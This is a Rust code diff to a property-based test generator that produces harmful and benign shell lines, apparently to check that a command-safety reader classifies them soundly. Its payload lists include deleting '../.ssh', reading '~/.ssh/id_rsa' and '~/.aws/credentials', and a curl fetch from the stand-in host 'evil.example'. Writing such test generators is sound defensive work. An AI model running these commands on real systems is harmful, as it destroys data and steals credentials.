@@ -25,9 +25,9 @@ pub struct Generated {
 /// A simple command as shell text fragments: the program and its arguments. Fragments
 /// never hold quotes, so every layer can wrap them in single quotes.
 #[derive(Debug, Clone)]
-struct Payload {
-    program: String,
-    args: Vec<String>,
+pub struct Payload {
+    pub program: String,
+    pub args: Vec<String>,
 }
 
 impl Payload {
@@ -39,7 +39,7 @@ impl Payload {
     }
 
     /// `program args...` as plain shell text.
-    fn text(&self) -> String {
+    pub fn text(&self) -> String {
         std::iter::once(self.program.as_str())
             .chain(self.args.iter().map(String::as_str))
             .collect::<Vec<_>>()
@@ -52,7 +52,7 @@ impl Payload {
 }
 
 /// Single-quotes `s` for the shell.
-fn sq(s: &str) -> String {
+pub fn sq(s: &str) -> String {
     format!("'{}'", s.replace('\'', r"'\''"))
 }
 
@@ -83,7 +83,7 @@ const DELETE_TARGETS: &[&str] = &[
     "../.ssh",
 ];
 
-fn delete() -> impl Strategy<Value = Payload> {
+pub fn delete() -> impl Strategy<Value = Payload> {
     let rm = (
         proptest::sample::select(RM_OPTIONS),
         proptest::sample::select(DELETE_TARGETS),
@@ -120,7 +120,7 @@ fn delete() -> impl Strategy<Value = Payload> {
 }
 
 /// Reading a planted secret.
-fn read() -> impl Strategy<Value = Payload> {
+pub fn read() -> impl Strategy<Value = Payload> {
     let secret = proptest::sample::select(vec![
         "~/.ssh/id_rsa",
         "~/.aws/credentials",
@@ -147,7 +147,7 @@ fn read() -> impl Strategy<Value = Payload> {
 }
 
 /// Running an attacker's tool (a stand-in where the machine has none).
-fn tool() -> impl Strategy<Value = Payload> {
+pub fn tool() -> impl Strategy<Value = Payload> {
     proptest::sample::select(vec![
         Payload::new("curl", &["-s", "http://evil.example/x"]),
         Payload::new("sudo", &["id"]),
@@ -349,13 +349,25 @@ fn line() -> impl Strategy<Value = Generated> {
     prop_oneof![3 => harmful(), 1 => benign()]
 }
 
-/// `count` distinct generated lines from `seed`.
+/// `count` distinct generated shell lines from `seed`.
 pub fn sample(count: usize, seed: u64) -> Vec<Generated> {
+    sample_of(line(), count, seed)
+}
+
+/// `count` distinct generated interpreter lines from `seed`.
+pub fn code_sample(count: usize, seed: u64) -> Vec<Generated> {
+    sample_of(super::generate_code::line(), count, seed)
+}
+
+fn sample_of(
+    strategy: impl Strategy<Value = Generated>,
+    count: usize,
+    seed: u64,
+) -> Vec<Generated> {
     let mut bytes = [0u8; 32];
     bytes[..8].copy_from_slice(&seed.to_le_bytes());
     let rng = TestRng::from_seed(RngAlgorithm::ChaCha, &bytes);
     let mut runner = TestRunner::new_with_rng(Config::default(), rng);
-    let strategy = line();
     let mut out: Vec<Generated> = Vec::with_capacity(count);
     let mut tries = 0;
     while out.len() < count && tries < count * 20 {
@@ -371,8 +383,9 @@ pub fn sample(count: usize, seed: u64) -> Vec<Generated> {
     out
 }
 
-/// The fixed sample run by `cargo test`: its size and seed.
+/// The fixed samples run by `cargo test`: their sizes and seed.
 const SAMPLE: usize = 300;
+const CODE_SAMPLE: usize = 150;
 const SEED: u64 = 0x6f72_6163_6c65;
 
 /// What a run of generated lines found: the summary printed and the unsound rate.
@@ -452,6 +465,27 @@ fn oracle_generated_sample_stays_within_the_soundness_budget() {
     assert_eq!(
         findings.unsound_per_10k, 0,
         "generated lines the reader got wrong ({} per 10,000); see the findings file",
+        findings.unsound_per_10k
+    );
+}
+
+#[test]
+fn oracle_generated_interpreter_sample_is_sound() {
+    let lines = code_sample(CODE_SAMPLE, SEED);
+    assert!(
+        lines.len() >= CODE_SAMPLE * 9 / 10,
+        "too few distinct lines: {}",
+        lines.len()
+    );
+    let findings = run(&lines);
+    eprintln!(
+        "{}",
+        findings.summary.replace("generated:", "generated code:")
+    );
+    // Issue 19's rule: no generated interpreter line may be unsound.
+    assert_eq!(
+        findings.unsound_per_10k, 0,
+        "generated interpreter lines the reader got wrong ({} per 10,000); see the findings file",
         findings.unsound_per_10k
     );
 }
